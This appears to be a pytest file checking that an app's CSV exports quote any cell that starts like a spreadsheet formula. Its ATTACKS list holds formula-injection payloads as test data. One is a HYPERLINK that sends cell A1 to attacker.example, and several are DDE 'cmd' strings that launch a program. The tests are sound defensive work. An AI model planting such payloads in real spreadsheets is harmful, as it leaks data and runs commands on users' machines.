"""Every CSV Weft writes neutralises cells a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient

from app.config import Settings
from app.main import create_app
from app.services.csv_safety import SafeCsvWriter, text_cell
from tests.app.test_themes import TopicEmbedder, analyse, corpus
from tests.conftest import ProjectHandle, auth, make_project, wait_for_job

ATTACKS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-0.5",
]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("ward-7", "ward-7"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_text_cells_that_start_like_a_formula_get_a_quote(value: str | None, cell: str) -> None:
    assert text_cell(value) == cell


def test_numbers_stay_numbers_and_text_is_neutralised() -> None:
    buffer = io.StringIO()
    SafeCsvWriter(buffer, float_format=".2f").writerow([-0.5, -3, True, None, "-0.5", "=A1"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        "-0.50",
        "-3",
        "true",
        "",
        "'-0.5",
        "'=A1",
    ]


@pytest.fixture
def topic_client(settings: Settings) -> Iterator[TestClient]:
    """The service with an embedder that knows the corpus's topics, so an analysis finds them."""
    with TestClient(create_app(settings, embedder=TopicEmbedder())) as client:
        yield client


class TestAssignmentsCsv:
    def test_formula_external_ids_are_exported_as_text(
        self,
        topic_client: TestClient,
    ) -> None:
        project: ProjectHandle = make_project(topic_client)
        items = corpus()
        for item, attack in zip(items, ATTACKS, strict=False):
            item["external_id"] = attack
        stored = project.post("/narratives", {"narratives": items})
        assert stored.status_code == 201, stored.text
        wait_for_job(topic_client, project.admin_key, stored.json()["job"]["id"])
        analyse(project)
        stored_ids = {
            n["external_id"] for n in project.get("/narratives", limit=100).json()["items"]
        }
        assert set(ATTACKS) <= stored_ids

        response = topic_client.get(
            project.url("/assignments"), params={"format": "csv"}, headers=auth(project.admin_key)
        )
        assert response.status_code == 200
        rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
        assert len(rows) == len(items)
        exported = {row["external_id"] for row in rows}
        assert {"'" + attack for attack in ATTACKS} <= exported
        for row in rows:
            for column in ("external_id", "theme_key", "subtheme_key", "theme_2_key"):
                assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
            # numeric columns stay plain numbers
            int(row["narrative_id"])
            assert 0 <= float(row["probability"]) <= 1
        # the JSON export gives the values as they were stored
        as_json = project.get("/assignments").json()["assignments"]
        assert set(ATTACKS) <= {r["external_id"] for r in as_json}
